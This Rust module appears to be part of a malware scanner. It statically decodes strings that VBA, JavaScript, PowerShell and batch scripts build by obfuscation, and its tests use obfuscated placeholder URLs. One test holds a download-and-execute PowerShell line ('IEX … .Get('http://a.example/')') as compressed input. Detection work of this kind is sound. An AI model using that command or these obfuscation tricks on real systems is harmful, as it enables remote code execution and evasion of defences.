//! Strings that a script builds from pieces: joined literals, character codes, reversed, replaced and encoded ones.
//!
//! No script is run: only expressions whose every part is constant are folded, in one pass over the text, with
//! bounded depth and length.

mod codecs;
mod expression;
mod lexis;

pub(crate) use codecs::{base64, hex, percent, readable};

use super::calls::Language;
use expression::Reader;

/// Strings told of one script.
const STRINGS: usize = 500;

/// Bytes of all the strings of one script.
const STRING_BYTES: usize = 256 << 10;

/// Values of one script that are tried as compressed data.
const INFLATIONS: usize = 50;

/// Files found in one script.
const PAYLOADS: usize = 20;

/// Bytes from which decoded markup counts as a page.
const PAGE_BYTES: usize = 300;

/// Fewest characters of a string worth telling.
const SHORTEST: usize = 6;

/// How a value came to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum How {
    /// It stands there.
    Plain,
    /// Joined from literals.
    Joined,
    /// It was escaped as addresses are, which honest pages do too.
    Escaped,
    /// It went through codes, a reversal, a replacement or an encoding.
    Coded,
}

/// A string with how it was come by.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Decoded {
    /// The string.
    pub(crate) text: String,
    /// How it came to be.
    pub(crate) how: How,
}

/// What was found in one script.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Strings {
    /// The strings, each once, in the order of the script.
    pub(crate) strings: Vec<Decoded>,
    /// Bytes that were written as text and are a file of a known kind.
    pub(crate) payloads: Vec<Vec<u8>>,
    /// Character codes that were folded.
    pub(crate) codes: usize,
    bytes: usize,
    inflations: usize,
}

impl Strings {
    fn push(&mut self, text: &str, how: How) {
        let text = text.trim_matches('\0');
        let shown = text.chars().filter(|c| !c.is_control() && !c.is_whitespace()).count();
        let told = self.strings.iter().rev().take(50).any(|s| s.text == text);
        let room = self.bytes + text.len() <= STRING_BYTES && self.strings.len() < STRINGS;
        if shown >= SHORTEST && room && !told {
            self.bytes += text.len();
            self.strings.push(Decoded { text: text.to_owned(), how });
        }
    }

    fn payload(&mut self, bytes: Vec<u8>) {
        if self.payloads.len() < PAYLOADS && !self.payloads.contains(&bytes) {
            self.payloads.push(bytes);
        }
    }

    /// Looks at a folded value, and at what it may be an encoding of.
    fn value(&mut self, text: &str, how: How) {
        // A whole page that was written in escapes or codes is a page of its own.
        let page = how > How::Joined && text.len() > PAGE_BYTES && is_markup(text);
        if page {
            self.payload(text.as_bytes().to_vec());
        }
        if how > How::Plain {
            self.push(text, if page { How::Coded } else { how });
        }
        self.encoded(text);
    }

    fn encoded(&mut self, text: &str) {
        if text.len() < 12 {
            return;
        }
        let lower_end = text.get(text.len().saturating_sub(600)..).unwrap_or(text);
        if lower_end.contains("//:ptth") || lower_end.contains("//:sptth") {
            self.push(&text.chars().rev().collect::<String>(), How::Coded);
        }
        if let Some(plain) = percent(text) {
            // Whole scripts and pages written in escapes are no habit.
            let whole = text.len() > 300 && plain.len() * 3 < text.len() * 2;
            if whole && is_markup(&plain) {
                self.payload(plain.clone().into_bytes());
            }
            self.push(&plain, if whole { How::Coded } else { How::Escaped });
        }
        // What follows `data:…;base64,` is the same as what stands alone.
        // Pictures and style sheets written into a page are everyday.
        let head = lexicon::text::cut(text, 16);
        if ["data:image/", "data:font/", "data:text/css"].iter().any(|h| head.starts_with(h)) {
            return;
        }
        let body = match lexicon::text::cut(text, 300).find(";base64,") {
            Some(at) => text.get(at + 8..).unwrap_or(""),
            None => text,
        };
        for bytes in [hex(body), base64(body)].into_iter().flatten() {
            self.bytes_found(bytes);
        }
    }

    fn bytes_found(&mut self, bytes: Vec<u8>) {
        if let Some(text) = readable(&bytes) {
            if is_markup(&text) {
                self.payload(bytes);
            }
            self.push(&text, How::Coded);
        } else if let Some(text) = self.inflated(&bytes) {
            self.push(&text, How::Coded);
        } else if codecs::is_file(&bytes) {
            self.payload(bytes);
        }
    }

    /// Text that was compressed before it was written as text.
    fn inflated(&mut self, bytes: &[u8]) -> Option<String> {
        if bytes.len() < 24 || self.inflations >= INFLATIONS {
            return None;
        }
        self.inflations += 1;
        codecs::inflate(bytes).and_then(|bytes| readable(&bytes))
    }
}

/// Decoded text that is a page or a picture of its own.
pub(crate) fn is_markup(text: &str) -> bool {
    let start = text.trim_start();
    ["<!doctype", "<html", "<svg", "<?xml", "<script", "<head", "<body", "<form", "<meta", "<style"]
        .iter()
        .any(|sign| start.get(..sign.len()).is_some_and(|s| s.eq_ignore_ascii_case(sign)))
}

/// The strings that a script builds.
pub(crate) fn fold(text: &str, language: Language) -> Strings {
    let mut out = Strings::default();
    if language == Language::Batch {
        batch(text, &mut out);
        return out;
    }
    let mut reader = Reader::new(text, language);
    while let Some(found) = reader.next() {
        out.codes += found.codes;
        match found.bytes {
            Some(bytes) => out.bytes_found(bytes),
            None => out.value(&found.text, found.how),
        }
    }
    if language == Language::PowerShell {
        ticks(text, &mut out);
    }
    encoded_command(text, &mut out);
    out
}

/// Lines of a batch file without the carets that split its words.
fn batch(text: &str, out: &mut Strings) {
    for line in text.lines() {
        if line.matches('^').count() >= 3 {
            out.push(&line.replace('^', ""), How::Coded);
        }
    }
    encoded_command(text, out);
}

/// Lines of PowerShell whose words are split by backticks.
fn ticks(text: &str, out: &mut Strings) {
    for line in text.lines() {
        let bytes = line.as_bytes();
        let inside = bytes
            .windows(3)
            .filter(|w| w[1] == b'`' && w[0].is_ascii_alphabetic() && w[2].is_ascii_alphabetic());
        if inside.count() >= 2 {
            out.push(&line.replace('`', ""), How::Coded);
        }
    }
}

/// `-EncodedCommand` in any of its short forms, in any language: base64 of UTF-16LE.
fn encoded_command(text: &str, out: &mut Strings) {
    let mut before = "";
    for word in text.split_ascii_whitespace() {
        let flag = before
            .trim_start_matches(['"', '\'', '-', '/', '^'])
            .replace(['^', '`'], "")
            .to_ascii_lowercase();
        let is_flag = before.contains(['-', '/'])
            && (flag == "ec" || (!flag.is_empty() && "encodedcommand".starts_with(&flag)));
        if is_flag && word.len() >= 16 {
            let word = word.trim_matches(['"', '\'', ')', ';', ',']);
            if let Some(text) = base64(word).and_then(|bytes| codecs::wide(&bytes)) {
                out.push(&text, How::Coded);
            }
        }
        before = word;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(language: Language, script: &str, expect: &[&str]) {
        let got = fold(script, language);
        let got: Vec<&str> = got.strings.iter().map(|s| s.text.as_str()).collect();
        assert_eq!(got, expect, "{script}");
    }

    #[test]
    fn basic_strings_are_folded() {
        let vba = Language::Vba;
        check(vba, "x = \"ht\" & \"tp://a.\" & _\r\n \"example/\"", &["http://a.example/"]);
        check(vba, "x = Chr(104) & ChrW$(&H74) + Chr(100 + 16) & \"p://a\"", &["http://a"]);
        check(vba, "x = StrReverse(\"elpmaxe.a//:ptth\")", &["http://a.example"]);
        check(vba, "x = Replace(\"h@@ttp://a.ex@@ample\", \"@@\", \"\")", &["http://a.example"]);
        check(
            vba,
            "' don't \"a\" & \"bcdefgh\"\r\ny = \"say \"\"hi\"\"\" & \" there\"",
            &["say \"hi\" there"],
        );
        check(vba, "x = \"aHR0cDovL2EuZXhhbXBsZS8=\"", &["http://a.example/"]);
        check(vba, "x = \"687474703a2f2f612e6578616d706c652f\"", &["http://a.example/"]);
        check(vba, "x = a & \"one thing only\"", &[]);
    }

    #[test]
    fn javascript_strings_are_folded() {
        let js = Language::JavaScript;
        check(js, "x='ht'+\"tp://a.\"+'example'", &["http://a.example"]);
        check(js, "x=String.fromCharCode(104,116,116,112,58,47,47,97)", &["http://a"]);
        check(js, "x=unescape('%68%74%74%70%3A%2F%2Fa')", &["http://a"]);
        check(js, "x=atob('aHR0cDovL2EuZXhhbXBsZS8=')", &["http://a.example/"]);
        check(js, r"x='\x68\x74\x74\x70\x3a\x2f\x2fa'", &["http://a"]);
        check(js, "x='elpmaxe//:ptth'.split('').reverse().join('')", &["http://example"]);
        check(js, "x='hXXtXXtp://a'.split('XX').join('')", &["http://a"]);
        check(js, "x='hQtQtp://a'.replace(/Q/g,'')", &["http://a"]);
        check(js, "x=[104,116,116,112,58,47,47,97,46,98]", &["http://a.b"]);
        check(js, "x=['ht','tp:','//a'].join('')", &["http://a"]);
    }

    #[test]
    fn powershell_and_batch_are_unfolded() {
        let ps = Language::PowerShell;
        check(ps, "$x = ('ht'+'tp://a') # it's", &["http://a"]);
        check(ps, "$x = \"{1}{0}\" -f 'p://a','htt'", &["http://a"]);
        check(ps, "$x = [char]104+[char]0x74+'tp://a'", &["http://a"]);
        check(ps, "'hZZttp://a' -replace 'ZZ',''", &["http://a"]);
        check(ps, "-join([char[]](104,116,116,112,58,47,47,97))", &["http://a"]);
        check(ps, "x -enc aAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQA=", &["http://a.example"]);
        check(Language::Batch, "s^t^a^rt http://a", &["start http://a"]);
    }

    #[test]
    fn compressed_scripts_are_inflated() {
        use std::io::Read;
        let script = "IEX (New-Object Net.Client).Get('http://a.example/') # and more of it, and more of it";
        let mut packed = Vec::new();
        let level = flate2::Compression::best();
        flate2::read::GzEncoder::new(script.as_bytes(), level).read_to_end(&mut packed).unwrap();
        let digits: String = packed.iter().map(|b| format!("{b:02x}")).collect();
        check(Language::PowerShell, &format!("$x = '{digits}'"), &[script]);
    }

    #[test]
    fn files_written_as_text_come_out() {
        let program = format!("x = atob('{}')", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ");
        assert_eq!(fold(&program, Language::JavaScript).payloads.len(), 1);
    }

    #[test]
    fn hostile_scripts_take_linear_time() {
        for piece in ["\"\\", "StrReverse(", "('", "[[", "'a'+(", "`", "Chr(1", "/", "x.replace(", "\"a\"&"] {
            for language in [Language::Vba, Language::JavaScript, Language::PowerShell, Language::Page] {
                let text = piece.repeat(200_000 / piece.len());
                fold(&text, language);
            }
        }
    }
}
